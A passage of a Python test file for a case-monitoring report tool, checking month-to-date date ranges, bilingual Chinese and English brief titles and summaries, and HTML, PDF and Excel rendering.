    assert trend.loc["2024-01"].tolist()[1:] == [2, 5, 2, 2, 1800]
    movers = feb_to_date.movers
    assert movers[["dimension", "code", "current", "previous", "increase", "cases"]].values.tolist() == [
        ["city", "440100", 1, 0, 1, 1],
        ["sector", "S01", 2, 0, 2, 1],
        ["brand", "Beta", 2, 0, 2, 1],
        ["firm", "Firm B", 2, 0, 2, 1],
    ]
    assert feb_to_date.new_members["member_id"].tolist() == ["M2"]


def test_month_to_date_ends_with_a_shorter_month() -> None:
    # 1-31 March compares with all of February (29 days in 2024, 28 in 2023), 1-30 April with 1-30 March
    assert brief_module.counted_until(FEB, dt.date(2024, 3, 31)) == dt.date(2024, 2, 29)
    assert brief_module.counted_until(dt.date(2023, 2, 1), dt.date(2024, 2, 29)) == dt.date(2023, 2, 28)
    assert brief_module.counted_until(dt.date(2024, 3, 1), dt.date(2024, 4, 30)) == dt.date(2024, 3, 30)
    assert brief_module.counted_until(FEB, None) == dt.date(2024, 2, 29)


def test_an_earlier_month_is_whole(mtd_db: Database) -> None:
    brief = report.build_brief(mtd_db.query, FEB, ANY_DATES, vocabulary(mtd_db), now=NOW, today=dt.date(2024, 3, 1))
    assert not brief.month_to_date and brief.partial_note("zh") is None
    assert brief.title("zh") == "CaseWatch 月度简报 · 2024年2月"
    assert (brief.kpi("cases").value, brief.kpi("cases").previous) == (2, 2)  # all February against all January
    assert report.file_name(brief, "pdf", "zh") == "casewatch_brief_2024-02_zh_leadership.pdf"


def test_month_to_date_is_said_in_words(feb_to_date: report.MonthlyBrief) -> None:
    assert feb_to_date.title("zh") == "CaseWatch 月度简报 · 2024年2月（本月至今，截至2月16日）"
    assert feb_to_date.title("en") == "CaseWatch monthly brief · February 2024 (month to date, through 16 February)"
    assert feb_to_date.partial_note("zh") == (
        "本月尚未结束：本简报为本月至今的数据（2024-02-01至2024-02-16）。环比与上月同期（2024-01-01至2024-01-16）相比，"
        "同比与去年同期（2023-02-01至2023-02-16）相比，均不与整月相比。"
    )
    assert feb_to_date.partial_note("en") == (
        "This month is not over: the brief covers the month to date (2024-02-01 to 2024-02-16). MoM compares with "
        "the same days of the previous month (2024-01-01 to 2024-01-16), YoY with the same days a year earlier "
        "(2023-02-01 to 2023-02-16), not with whole months."
    )
    assert report.sentences(feb_to_date, "zh") == [
        "2024年2月（本月至今，截至2月16日）新增案件1件，与上月同期持平，较去年同期下降50%；涉及被告店铺2家次、"
        "涉诉会员2家，其中首次涉诉1家；冻结金额300美元。",
        "被告店铺次数较上月同期增幅居前的是：城市广州（+1）、行业服装鞋帽（+2）、品牌Beta（+2）、律所Firm B（+2）。",
        "首次涉诉的会员有广州市丙丁服饰有限公司。",
    ]
    assert report.sentences(feb_to_date, "en")[:2] == [
        "New cases in February 2024 (month to date, through 16 February): 1 (unchanged from the same days of the "
        "previous month, down 50% on the same days a year earlier). Defendant stores named: 2; member companies "
        "sued: 2, 1 of them for the first time. Frozen: US$300.",
        "Largest increases in defendant stores against the same days of the previous month: city Guangzhou (+1), "
        "sector Apparel & Footwear (+2), brand Beta (+2), law firm Firm B (+2).",
    ]
    assert report.file_name(feb_to_date, "pdf", "zh") == "casewatch_brief_2024-02_to_2024-02-16_zh_analyst.pdf"


def test_month_to_date_in_every_rendering(feb_to_date: report.MonthlyBrief) -> None:
    html = report.render(feb_to_date, "html", "zh").decode("utf-8")
    assert "<title>CaseWatch 月度简报 · 2024年2月（本月至今，截至2月16日）</title>" in html
    assert f'<p class="partial" data-period="month-to-date">{feb_to_date.partial_note("zh")}</p>' in html
    assert "筛选条件：立案日期 2024-02-01 至 2024-02-16" in html
    assert "增幅最大（被告店铺次数，较上月同期）" in html
    english = report.render(feb_to_date, "html", "en").decode("utf-8")
    assert "This month is not over: the brief covers the month to date (2024-02-01 to 2024-02-16)." in english

    for lang, title, card in (
        ("zh", "CaseWatch 月度简报 · 2024年2月（本月至今，截至2月16日）", "新立案件\n1\n环比 0%  (1)\n同比 -50%  (2)"),
        (
            "en",
            "CaseWatch monthly brief · February 2024 (month to date, through 16 February)",
            "New cases\n1\nMoM 0%  (1)",
        ),
    ):
        pdf = PdfReader(io.BytesIO(report.render(feb_to_date, "pdf", lang)))
        text = "\n".join(page.extract_text() for page in pdf.pages)
        assert title in text and card in text
        assert pdf.metadata is not None and pdf.metadata.title == title
        flat = text.replace("\n", "").replace(" ", "")
        assert (feb_to_date.partial_note(lang) or "-").replace(" ", "") in flat

    book = openpyxl.load_workbook(io.BytesIO(report.render(feb_to_date, "xlsx", "zh")))
    front = [row[0] for row in book["摘要"].iter_rows(values_only=True)]
    assert front[0] == "CaseWatch 月度简报 · 2024年2月（本月至今，截至2月16日）"
    assert front[5] == feb_to_date.partial_note("zh") and front[6] == report.summary(feb_to_date, "zh")
    kpis = list(book["关键指标"].iter_rows(values_only=True))
    assert kpis[0] == ("指标", "本月至今", "上月同期", "环比", "去年同期", "同比")
    assert [row[1:3] + row[4:5] for row in kpis[1:]] == [(1, 1, 2), (2, 3, 2), (2, 2, 1), (1, 2, 1), (300, 1700, 100)]
    movers = list(book["增幅榜"].iter_rows(values_only=True))
    assert movers[0][3:5] == ("本月至今被告店铺次数", "上月同期被告店铺次数")
    assert movers[1] == ("城市", "440100", "广州", 1, 0, 1, 1)
    english_book = openpyxl.load_workbook(io.BytesIO(report.render(feb_to_date, "xlsx", "en")))
    header = next(english_book["Key figures"].iter_rows(values_only=True))
    assert header[1:3] == ("Month to date", "Same days, previous month")


def test_cli_brief_of_the_current_month_is_month_to_date(
    report_db_path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    today = dt.date.today()
    out = tmp_path / "now.html"
    args = ["report", "--db", report_db_path, "--month", f"{today:%Y-%m}", "--format", "html", "--out", str(out)]
    assert main(args) == 0
    assert f"（本月至今，截至{today.month}月{today.day}日）" in capsys.readouterr().out
    assert f"（{today:%Y-%m}-01至{today:%Y-%m-%d}）" in out.read_text(encoding="utf-8")
